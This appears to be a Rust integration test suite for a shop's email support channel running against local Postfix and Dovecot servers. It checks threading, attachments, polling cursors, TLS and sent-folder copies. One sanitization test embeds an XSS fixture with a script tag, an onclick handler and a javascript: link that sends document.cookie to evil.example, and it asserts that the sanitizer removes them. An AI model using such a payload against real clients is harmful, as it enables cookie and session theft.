//! The mailbox channel against real Postfix and Dovecot (`scripts/mail-servers.sh start`): a
//! customer's mail client writes through Postfix, the channel reads the shop's mailbox over
//! IMAP and answers through Postfix, and the test reads the customer's mailbox to see what a
//! customer would see. Every test makes its own mailboxes, so they run side by side.

use std::sync::Arc;
use std::time::{Duration, Instant};

use futures_util::TryStreamExt;
use lettre::message::header::ContentType;
use lettre::message::{Attachment, Mailbox, MultiPart, SinglePart};
use lettre::transport::smtp::client::Tls;
use lettre::{AsyncSmtpTransport, AsyncTransport, Message, Tokio1Executor};
use mail_parser::{MessageParser, MimeHeaders};
use omnihub_connectors::email::{BATCH, HTML_BODY_NAME, MailboxChannel, RESYNC_WINDOW};
use omnihub_connectors::provider::{
    AttachmentKind, Health, InboundMessage, InboundUpdate, Polled, ProviderChannel, WebhookError,
    WebhookRequest,
};
use omnihub_connectors::{OutboundAttachment, OutboundChannel, OutboundMessage, SendError};
use omnihub_core::MessageId;
use omnihub_sandbox::mail_servers::{MailServers, TestMailbox};
use serde_json::json;
use tokio::net::TcpStream;

/// Long enough for Postfix to queue and Dovecot to store a message, many times over.
const DELIVERY: Duration = Duration::from_secs(10);
/// Short IDLE for tests that only need "nothing new" answered.
const SHORT_IDLE: Duration = Duration::from_secs(1);

struct Rig {
    servers: MailServers,
    shop: TestMailbox,
    customer: TestMailbox,
}

impl Rig {
    fn new() -> Rig {
        let servers = MailServers::find().unwrap_or_else(|error| panic!("{error}"));
        let shop = servers.add_mailbox("shop", "shop.test").unwrap();
        let customer = servers.add_mailbox("customer", "customer.test").unwrap();
        Rig {
            servers,
            shop,
            customer,
        }
    }

    fn channel_with(&self, password: &str, folder: &str) -> MailboxChannel {
        let settings = json!({
            "address": self.shop.address,
            "display_name": "Цветочный магазин",
            "imap_host": "127.0.0.1",
            "imap_port": self.servers.imap_addr().port(),
            "imap_security": "plain",
            "smtp_host": "127.0.0.1",
            "smtp_port": self.servers.smtp_addr().port(),
            "smtp_security": "plain",
            "folder": folder,
        });
        let credentials = json!({"username": self.shop.address, "password": password});
        MailboxChannel::from_channel(Some(&credentials), &settings).unwrap()
    }

    fn channel(&self) -> MailboxChannel {
        self.channel_with(&self.shop.password, "INBOX")
    }

    fn channel_saving_to(&self, sent_folder: &str) -> MailboxChannel {
        let settings = json!({
            "address": self.shop.address,
            "imap_host": "127.0.0.1",
            "imap_port": self.servers.imap_addr().port(),
            "imap_security": "plain",
            "smtp_host": "127.0.0.1",
            "smtp_port": self.servers.smtp_addr().port(),
            "smtp_security": "plain",
            "sent_folder": sent_folder,
        });
        let credentials = json!({"password": self.shop.password});
        MailboxChannel::from_channel(Some(&credentials), &settings).unwrap()
    }

    /// The customer's mail client: plain SMTP through Postfix, as an outside sender would.
    async fn customer_sends(&self, message: Message) {
        let transport = AsyncSmtpTransport::<Tokio1Executor>::builder_dangerous("127.0.0.1")
            .port(self.servers.smtp_addr().port())
            .tls(Tls::None)
            .build();
        transport.send(message).await.unwrap();
    }

    fn mail_from_customer(&self) -> lettre::message::MessageBuilder {
        Message::builder()
            .from(Mailbox::new(
                Some("Иван Петров".into()),
                self.customer.address.parse().unwrap(),
            ))
            .to(self.shop.address.parse().unwrap())
    }

    /// Waits until the customer's inbox holds `count` messages and returns them, raw, in order.
    async fn customer_inbox(&self, count: usize) -> Vec<Vec<u8>> {
        let deadline = Instant::now() + DELIVERY;
        loop {
            let mut session = imap_login(&self.servers, &self.customer).await;
            session.select("INBOX").await.unwrap();
            let messages: Vec<Vec<u8>> = session
                .fetch("1:*", "BODY.PEEK[]")
                .await
                .unwrap()
                .try_collect::<Vec<_>>()
                .await
                .map(|fetches| {
                    fetches
                        .iter()
                        .filter_map(|fetch| fetch.body().map(<[u8]>::to_vec))
                        .collect()
                })
                // An empty mailbox answers `1:*` with an error.
                .unwrap_or_default();
            session.logout().await.unwrap();
            if messages.len() >= count {
                assert_eq!(messages.len(), count, "more mail than expected");
                return messages;
            }
            assert!(
                Instant::now() < deadline,
                "the customer has {} of {count} messages",
                messages.len()
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

async fn imap_login(
    servers: &MailServers,
    mailbox: &TestMailbox,
) -> async_imap::Session<TcpStream> {
    let tcp = TcpStream::connect(servers.imap_addr()).await.unwrap();
    let mut client = async_imap::Client::new(tcp);
    client.read_response().await.unwrap().unwrap();
    client
        .login(&mailbox.address, &mailbox.password)
        .await
        .map_err(|(error, _)| error)
        .unwrap()
}

/// Polls until `count` messages came (several polls if need be) and returns them with the
/// last cursor.
async fn poll_messages(
    channel: &MailboxChannel,
    mut cursor: String,
    count: usize,
) -> (Vec<InboundMessage>, String) {
    let deadline = Instant::now() + DELIVERY;
    let mut messages = Vec::new();
    while messages.len() < count {
        assert!(
            Instant::now() < deadline,
            "{} of {count} messages",
            messages.len()
        );
        let polled = channel.poll(Some(&cursor)).await.unwrap();
        cursor = polled.cursor.unwrap();
        messages.extend(polled.updates.into_iter().map(message));
    }
    assert_eq!(messages.len(), count, "{messages:#?}");
    (messages, cursor)
}

fn message(update: InboundUpdate) -> InboundMessage {
    match update {
        InboundUpdate::Message(message) => message,
        other => panic!("not a message: {other:?}"),
    }
}

async fn start(channel: &MailboxChannel) -> String {
    let started = Instant::now();
    let polled = channel.poll(None).await.unwrap();
    assert!(polled.updates.is_empty());
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "the first poll only places the cursor"
    );
    polled.cursor.unwrap()
}

fn reply(conversation: &str, text: &str, key: &str, reply_to: Option<&str>) -> OutboundMessage {
    let mut message = OutboundMessage::text(MessageId::new(), conversation, text, key);
    message.reply_to = reply_to.map(str::to_owned);
    message
}

fn ids(value: &mail_parser::HeaderValue<'_>) -> Vec<String> {
    match value {
        mail_parser::HeaderValue::Text(id) => vec![id.to_string()],
        mail_parser::HeaderValue::TextList(ids) => ids.iter().map(|id| id.to_string()).collect(),
        _ => Vec::new(),
    }
}

#[tokio::test]
async fn a_conversation_round_trips_through_postfix_and_dovecot() {
    let rig = Rig::new();
    let channel = Arc::new(rig.channel());
    let cursor = start(&channel).await;

    // The channel waits in IDLE before the customer writes.
    let waiting = tokio::spawn({
        let channel = Arc::clone(&channel);
        let cursor = cursor.clone();
        async move { channel.poll(Some(&cursor)).await }
    });
    tokio::time::sleep(Duration::from_millis(500)).await;
    let sent_at = Instant::now();
    rig.customer_sends(
        rig.mail_from_customer()
            .subject("Заказ №42")
            .message_id(Some("<order-42@customer.test>".into()))
            .body("Где мой заказ?".to_owned())
            .unwrap(),
    )
    .await;
    let polled: Polled = waiting.await.unwrap().unwrap();
    let woke_after = sent_at.elapsed();
    println!("IDLE woke {woke_after:?} after the customer's SMTP submission");
    assert!(woke_after < Duration::from_secs(2), "{woke_after:?}");
    assert_eq!(polled.updates.len(), 1);
    let first = message(polled.updates.into_iter().next().unwrap());
    assert_eq!(first.event_id, "order-42@customer.test");
    assert_eq!(first.conversation, "order-42@customer.test");
    assert_eq!(
        first.provider_message_id.as_deref(),
        Some("order-42@customer.test")
    );
    assert_eq!(first.sender.id, rig.customer.address);
    assert_eq!(
        first.sender.email.as_deref(),
        Some(rig.customer.address.as_str())
    );
    assert_eq!(first.sender.name, "Иван Петров");
    assert_eq!(first.text, "Где мой заказ?");
    assert!(first.attachments.is_empty());
    let age = chrono::Utc::now() - first.sent_at.unwrap();
    assert!(age.num_seconds().abs() < 60, "{age:?}");
    let cursor = polled.cursor.unwrap();

    // The shop answers: the customer gets a threaded reply.
    let receipt = channel
        .send(&reply(
            &first.conversation,
            "Уже в пути <скоро> & сегодня",
            "reply-1",
            first.provider_message_id.as_deref(),
        ))
        .await
        .unwrap();
    let reply_id = receipt.provider_message_id.unwrap();
    let inbox = rig.customer_inbox(1).await;
    let answer = MessageParser::default().parse(&inbox[0]).unwrap();
    assert_eq!(answer.message_id(), Some(reply_id.as_str()));
    assert_eq!(ids(answer.in_reply_to()), ["order-42@customer.test"]);
    assert_eq!(ids(answer.references()), ["order-42@customer.test"]);
    assert_eq!(answer.subject(), Some("Re: Заказ №42"));
    let from = answer.from().unwrap().first().unwrap();
    assert_eq!(from.address(), Some(rig.shop.address.as_str()));
    assert_eq!(from.name(), Some("Цветочный магазин"));
    assert_eq!(
        answer.body_text(0).unwrap().trim_end(),
        "Уже в пути <скоро> & сегодня"
    );
    let html = answer.body_html(0).unwrap();
    assert!(
        html.contains("Уже в пути &lt;скоро&gt; &amp; сегодня"),
        "{html}"
    );

    // The customer answers the reply: same conversation.
    rig.customer_sends(
        rig.mail_from_customer()
            .subject("Re: Re: Заказ №42")
            .message_id(Some("<order-42-again@customer.test>".into()))
            .in_reply_to(format!("<{reply_id}>"))
            .references(format!("<order-42@customer.test> <{reply_id}>"))
            .body("Спасибо! А во сколько?".to_owned())
            .unwrap(),
    )
    .await;
    let (messages, _cursor) = poll_messages(&channel, cursor, 1).await;
    let second = &messages[0];
    assert_eq!(second.conversation, first.conversation);
    assert_eq!(second.event_id, "order-42-again@customer.test");
    assert_eq!(second.text, "Спасибо! А во сколько?");

    // A reply without `reply_to` answers the newest message of the thread.
    let receipt = channel
        .send(&reply(&first.conversation, "К шести", "reply-2", None))
        .await
        .unwrap();
    let inbox = rig.customer_inbox(2).await;
    let answer = MessageParser::default().parse(&inbox[1]).unwrap();
    assert_eq!(answer.message_id(), receipt.provider_message_id.as_deref());
    assert_eq!(ids(answer.in_reply_to()), ["order-42-again@customer.test"]);
    assert_eq!(
        ids(answer.references()),
        [
            "order-42@customer.test".to_owned(),
            reply_id,
            "order-42-again@customer.test".to_owned()
        ]
    );
    assert_eq!(answer.subject(), Some("Re: Заказ №42"));
}

#[tokio::test]
async fn attachments_travel_both_ways() {
    let rig = Rig::new();
    let channel = rig.channel();
    let cursor = start(&channel).await;
    let picture: Vec<u8> = (0..=255u8).cycle().take(5000).collect();
    let invoice = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\nnot really a pdf\n".to_vec();
    rig.customer_sends(
        rig.mail_from_customer()
            .subject("Фото брака")
            .multipart(
                MultiPart::mixed()
                    .singlepart(SinglePart::plain("Смотрите вложения".to_owned()))
                    .singlepart(
                        Attachment::new("брак.png".into())
                            .body(picture.clone(), ContentType::parse("image/png").unwrap()),
                    )
                    .singlepart(Attachment::new("invoice.pdf".into()).body(
                        invoice.clone(),
                        ContentType::parse("application/pdf").unwrap(),
                    )),
            )
            .unwrap(),
    )
    .await;
    let (messages, _) = poll_messages(&channel, cursor, 1).await;
    let inbound = &messages[0];
    assert_eq!(inbound.text, "Смотрите вложения");
    assert_eq!(inbound.attachments.len(), 2, "{:#?}", inbound.attachments);
    let png = &inbound.attachments[0];
    assert_eq!(png.kind, AttachmentKind::Image);
    assert_eq!(png.file_name.as_deref(), Some("брак.png"));
    assert_eq!(png.mime_type.as_deref(), Some("image/png"));
    assert_eq!(png.size, Some(5000));
    let pdf = &inbound.attachments[1];
    assert_eq!(pdf.kind, AttachmentKind::Document);
    assert!(pdf.file_ref.as_deref().unwrap().starts_with("uid:"));

    let media = channel
        .download(png.file_ref.as_deref().unwrap())
        .await
        .unwrap();
    assert_eq!(media.bytes, picture);
    assert_eq!(media.mime_type.as_deref(), Some("image/png"));
    assert_eq!(media.file_name.as_deref(), Some("брак.png"));
    let media = channel
        .download(pdf.file_ref.as_deref().unwrap())
        .await
        .unwrap();
    assert_eq!(media.bytes, invoice);
    let missing = channel.download("uid:1:999999:1").await.unwrap_err();
    assert!(!missing.is_transient(), "{missing:?}");

    let mut answer = reply(&inbound.conversation, "Вот замена", "with-file", None);
    let label: Vec<u8> = (0..3000u32).map(|i| (i * 7 % 251) as u8).collect();
    answer.attachments.push(OutboundAttachment {
        file_name: "накладная.bin".into(),
        mime_type: "application/octet-stream".into(),
        bytes: label.clone().into(),
        public_url: None,
    });
    // Plain ASCII with bare line feeds must arrive byte for byte too.
    let note = b"line 1\nline 2\n".to_vec();
    answer.attachments.push(OutboundAttachment {
        file_name: "note.txt".into(),
        mime_type: "text/plain".into(),
        bytes: note.clone().into(),
        public_url: None,
    });
    channel.send(&answer).await.unwrap();
    let inbox = rig.customer_inbox(1).await;
    let received = MessageParser::default().parse(&inbox[0]).unwrap();
    assert_eq!(received.body_text(0).unwrap().trim_end(), "Вот замена");
    let attachment = received.attachment(0).unwrap();
    assert_eq!(attachment.attachment_name(), Some("накладная.bin"));
    assert_eq!(attachment.contents(), label.as_slice());
    let attachment = received.attachment(1).unwrap();
    assert_eq!(attachment.attachment_name(), Some("note.txt"));
    assert_eq!(attachment.contents(), note.as_slice());
}

#[tokio::test]
async fn html_only_mail_is_shown_sanitized() {
    let rig = Rig::new();
    let channel = rig.channel();
    let cursor = start(&channel).await;
    let html = r#"<html><head><script>alert('stolen')</script></head><body>
        <p onclick="steal()">Заказ <b>не пришёл</b></p>
        <a href="javascript:document.location='https://evil.example/'+document.cookie">трек</a>
        <a href="https://shop.test/orders/42">заказ</a>
        <img src="https://tracker.example/open.gif"></body></html>"#;
    rig.customer_sends(
        rig.mail_from_customer()
            .subject("HTML")
            .singlepart(SinglePart::html(html.to_owned()))
            .unwrap(),
    )
    .await;
    let (messages, _) = poll_messages(&channel, cursor, 1).await;
    let inbound = &messages[0];
    assert!(inbound.text.contains("Заказ"), "{}", inbound.text);
    assert!(inbound.text.contains("не пришёл"), "{}", inbound.text);
    assert!(inbound.text.contains("трек"), "{}", inbound.text);
    for gone in ["alert", "stolen", "javascript", "steal", "<"] {
        assert!(!inbound.text.contains(gone), "{gone} in {}", inbound.text);
    }
    assert_eq!(inbound.attachments.len(), 1);
    let body = &inbound.attachments[0];
    assert_eq!(body.file_name.as_deref(), Some(HTML_BODY_NAME));
    assert_eq!(body.mime_type.as_deref(), Some("text/html"));

    let media = channel
        .download(body.file_ref.as_deref().unwrap())
        .await
        .unwrap();
    let safe = String::from_utf8(media.bytes).unwrap();
    assert!(safe.contains("<b>не пришёл</b>"), "{safe}");
    assert!(
        safe.contains(r#"href="https://shop.test/orders/42""#),
        "{safe}"
    );
    for gone in [
        "<script",
        "alert",
        "onclick",
        "javascript:",
        "document.cookie",
        "tracker.example",
    ] {
        assert!(!safe.contains(gone), "{gone} survived: {safe}");
    }
}

/// Puts a message straight into a folder over IMAP, as another mail client would.
async fn append(session: &mut async_imap::Session<TcpStream>, folder: &str, number: usize) {
    let raw = format!(
        "From: writer@customer.test\r\nTo: shop@shop.test\r\nSubject: number {number}\r\n\
         Message-ID: <n{number}-{folder}@customer.test>\r\n\r\nmessage {number}\r\n"
    );
    session
        .append(folder, None, None, raw.as_bytes())
        .await
        .unwrap();
}

fn texts(messages: &[InboundMessage]) -> Vec<String> {
    messages
        .iter()
        .map(|message| message.text.clone())
        .collect()
}

#[tokio::test]
async fn the_cursor_neither_misses_nor_repeats() {
    let rig = Rig::new();
    let channel = rig
        .channel_with(&rig.shop.password, "INBOX")
        .with_idle_timeout(SHORT_IDLE);
    let mut session = imap_login(&rig.servers, &rig.shop).await;
    // Mail already there when the channel is connected is not ingested.
    append(&mut session, "INBOX", 0).await;
    let start_cursor = start(&channel).await;

    for number in 1..=BATCH + 5 {
        append(&mut session, "INBOX", number).await;
    }
    let first = channel.poll(Some(&start_cursor)).await.unwrap();
    assert_eq!(first.updates.len(), BATCH, "one batch per poll");
    let (rest, cursor) = poll_messages(&channel, first.cursor.clone().unwrap(), 5).await;
    let mut all: Vec<InboundMessage> = first.updates.into_iter().map(message).collect();
    all.extend(rest);
    let expected: Vec<String> = (1..=BATCH + 5).map(|n| format!("message {n}")).collect();
    assert_eq!(texts(&all), expected);

    // Nothing new: the poll waits out IDLE and returns empty, cursor unchanged.
    let started = Instant::now();
    let idle = channel.poll(Some(&cursor)).await.unwrap();
    assert!(idle.updates.is_empty());
    assert_eq!(idle.cursor.as_deref(), Some(cursor.as_str()));
    assert!(started.elapsed() >= SHORT_IDLE, "{:?}", started.elapsed());

    // Polling from an older cursor again gives the same messages again: the cursor is the state.
    let again = channel.poll(Some(&start_cursor)).await.unwrap();
    assert_eq!(again.updates.len(), BATCH);
    assert_eq!(again.cursor, first.cursor);

    for number in 100..102 {
        append(&mut session, "INBOX", number).await;
    }
    let (latest, _) = poll_messages(&channel, cursor, 2).await;
    assert_eq!(texts(&latest), ["message 100", "message 101"]);

    let garbage = channel.poll(Some("imap:x")).await.unwrap_err();
    assert!(!garbage.is_transient(), "{garbage:?}");
}

#[tokio::test]
async fn a_changed_uidvalidity_rereads_only_recent_mail() {
    let rig = Rig::new();
    let channel = rig
        .channel_with(&rig.shop.password, "Support")
        .with_idle_timeout(SHORT_IDLE);
    let mut session = imap_login(&rig.servers, &rig.shop).await;
    session.create("Support").await.unwrap();
    let old_cursor = start(&channel).await;
    append(&mut session, "Support", 0).await;
    let (messages, old_cursor) = poll_messages(&channel, old_cursor, 1).await;
    assert_eq!(texts(&messages), ["message 0"]);

    // The folder is recreated: its UIDs start over under a new UIDVALIDITY.
    session.delete("Support").await.unwrap();
    session.create("Support").await.unwrap();
    let total = RESYNC_WINDOW as usize + 5;
    for number in 1..=total {
        append(&mut session, "Support", number).await;
    }
    let polled = channel.poll(Some(&old_cursor)).await.unwrap();
    let recent: Vec<InboundMessage> = polled.updates.into_iter().map(message).collect();
    let expected: Vec<String> = (6..=total).map(|n| format!("message {n}")).collect();
    assert_eq!(texts(&recent), expected, "only the last RESYNC_WINDOW UIDs");
    let new_cursor = polled.cursor.unwrap();
    assert_ne!(
        new_cursor.split(':').nth(1),
        old_cursor.split(':').nth(1),
        "{old_cursor} -> {new_cursor}"
    );
    let after = channel.poll(Some(&new_cursor)).await.unwrap();
    assert!(after.updates.is_empty());

    // A file reference from before the change no longer resolves.
    let stale = format!("uid:{}:1:1", old_cursor.split(':').nth(1).unwrap());
    assert!(!channel.download(&stale).await.unwrap_err().is_transient());
}

#[tokio::test]
async fn a_retried_send_is_the_same_message() {
    let rig = Rig::new();
    let channel = rig.channel();
    let cursor = start(&channel).await;
    rig.customer_sends(
        rig.mail_from_customer()
            .subject("Retry")
            .body("hello".to_owned())
            .unwrap(),
    )
    .await;
    let (messages, _) = poll_messages(&channel, cursor, 1).await;
    let conversation = &messages[0].conversation;

    let first = channel
        .send(&reply(conversation, "once", "key-1", None))
        .await
        .unwrap();
    let retried = channel
        .send(&reply(conversation, "once", "key-1", None))
        .await
        .unwrap();
    let other = channel
        .send(&reply(conversation, "twice", "key-2", None))
        .await
        .unwrap();
    assert_eq!(first, retried);
    assert_ne!(first, other);
    let inbox = rig.customer_inbox(3).await;
    // Postfix may deliver the three in any order.
    let mut received: Vec<Option<String>> = inbox
        .iter()
        .map(|raw| {
            MessageParser::default()
                .parse(raw)
                .unwrap()
                .message_id()
                .map(str::to_owned)
        })
        .collect();
    received.sort();
    let mut expected = vec![
        first.provider_message_id.clone(),
        first.provider_message_id.clone(),
        other.provider_message_id.clone(),
    ];
    expected.sort();
    assert_eq!(received, expected, "the retry carries the same Message-ID");

    let unknown = channel
        .send(&reply(
            "no-such-thread@customer.test",
            "lost",
            "key-3",
            None,
        ))
        .await
        .unwrap_err();
    assert!(
        matches!(unknown, SendError::Permanent { ref reason } if reason.contains("no message")),
        "{unknown:?}"
    );
}

#[tokio::test]
async fn health_names_a_wrong_password() {
    let rig = Rig::new();
    assert_eq!(rig.channel().health().await, Health::Ok);

    let wrong = rig.channel_with("not-the-password", "INBOX");
    match wrong.health().await {
        Health::InvalidToken(reason) => {
            assert!(reason.contains("Authentication failed"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
    let refused = wrong.poll(None).await.unwrap_err();
    assert!(!refused.is_transient(), "{refused:?}");

    let missing_folder = rig.channel_with(&rig.shop.password, "NoSuchFolder");
    match missing_folder.health().await {
        Health::Failing(reason) => assert!(reason.contains("NoSuchFolder"), "{reason}"),
        other => panic!("{other:?}"),
    }

    // Mail has no webhook and no callbacks.
    let channel = rig.channel();
    let request = WebhookRequest::new("POST", "", Vec::new(), b"{}");
    assert_eq!(
        channel.webhook(&request),
        Err(WebhookError::MethodNotAllowed)
    );
    channel
        .set_webhook(Some("https://example.com/hook"))
        .await
        .unwrap();
    channel.answer_callback("anything").await.unwrap();
}

/// The channel over TLS and STARTTLS, both protocols, with the certificate really verified.
#[tokio::test]
async fn tls_and_starttls_verify_the_server() {
    let rig = Rig::new();
    let ca = rig.servers.ca_pem().unwrap();
    let tls_channel = |imap_security: &str, imap_port: u16, smtp_security: &str, smtp_port: u16| {
        let settings = json!({
            "address": rig.shop.address,
            "imap_host": "localhost",
            "imap_port": imap_port,
            "imap_security": imap_security,
            "smtp_host": "localhost",
            "smtp_port": smtp_port,
            "smtp_security": smtp_security,
        });
        let credentials = json!({"password": rig.shop.password});
        MailboxChannel::from_channel(Some(&credentials), &settings).unwrap()
    };
    let implicit_tls = || {
        tls_channel(
            "tls",
            rig.servers.imaps_addr().port(),
            "starttls",
            rig.servers.smtp_addr().port(),
        )
    };
    let upgraded = || {
        tls_channel(
            "starttls",
            rig.servers.imap_addr().port(),
            "tls",
            rig.servers.smtps_addr().port(),
        )
    };

    // A certificate from an unknown CA is refused before any password is sent.
    for untrusted in [implicit_tls(), upgraded()] {
        match untrusted.health().await {
            Health::Unreachable(reason) => assert!(reason.contains("TLS"), "{reason}"),
            other => panic!("{other:?}"),
        }
    }

    let implicit = implicit_tls().with_extra_root_certificates(&ca).unwrap();
    let upgraded = upgraded().with_extra_root_certificates(&ca).unwrap();
    assert_eq!(implicit.health().await, Health::Ok);
    assert_eq!(upgraded.health().await, Health::Ok);

    let cursor = start(&implicit).await;
    rig.customer_sends(
        rig.mail_from_customer()
            .subject("TLS")
            .body("over TLS".to_owned())
            .unwrap(),
    )
    .await;
    let (messages, _) = poll_messages(&implicit, cursor, 1).await;
    assert_eq!(messages[0].text, "over TLS");
    let conversation = &messages[0].conversation;
    implicit
        .send(&reply(conversation, "via STARTTLS", "tls-1", None))
        .await
        .unwrap();
    upgraded
        .send(&reply(conversation, "via implicit TLS", "tls-2", None))
        .await
        .unwrap();
    let texts: Vec<String> = rig
        .customer_inbox(2)
        .await
        .iter()
        .map(|raw| {
            let parsed = MessageParser::default().parse(raw).unwrap();
            parsed.body_text(0).unwrap().trim_end().to_owned()
        })
        .collect();
    assert!(texts.contains(&"via STARTTLS".to_owned()), "{texts:?}");
    assert!(texts.contains(&"via implicit TLS".to_owned()), "{texts:?}");

    assert!(
        implicit_tls()
            .with_extra_root_certificates(b"not a certificate")
            .is_err()
    );
}

#[tokio::test]
async fn replies_are_saved_to_the_sent_folder() {
    let rig = Rig::new();
    let mut session = imap_login(&rig.servers, &rig.shop).await;
    session.create("Sent").await.unwrap();
    let channel = rig.channel_saving_to("Sent");
    let cursor = start(&channel).await;
    rig.customer_sends(
        rig.mail_from_customer()
            .subject("Copy")
            .body("keep a copy".to_owned())
            .unwrap(),
    )
    .await;
    let (messages, _) = poll_messages(&channel, cursor, 1).await;
    let receipt = channel
        .send(&reply(&messages[0].conversation, "copied", "copy-1", None))
        .await
        .unwrap();

    session.select("Sent").await.unwrap();
    let saved: Vec<(Vec<u8>, bool)> = session
        .fetch("1:*", "(FLAGS BODY.PEEK[])")
        .await
        .unwrap()
        .try_collect::<Vec<_>>()
        .await
        .unwrap()
        .iter()
        .map(|fetch| {
            let seen = fetch
                .flags()
                .any(|flag| flag == async_imap::types::Flag::Seen);
            (fetch.body().unwrap().to_vec(), seen)
        })
        .collect();
    assert_eq!(saved.len(), 1);
    let copy = MessageParser::default().parse(&saved[0].0).unwrap();
    assert_eq!(copy.message_id(), receipt.provider_message_id.as_deref());
    assert_eq!(copy.body_text(0).unwrap().trim_end(), "copied");
    assert!(saved[0].1, "the copy is marked read");
    // The customer got the reply itself.
    assert_eq!(rig.customer_inbox(1).await.len(), 1);

    // A sent folder that does not exist costs the copy, not the send.
    let careless = rig.channel_saving_to("NoSuchFolder");
    careless
        .send(&reply(&messages[0].conversation, "no copy", "copy-2", None))
        .await
        .unwrap();
    assert_eq!(rig.customer_inbox(2).await.len(), 2);
}
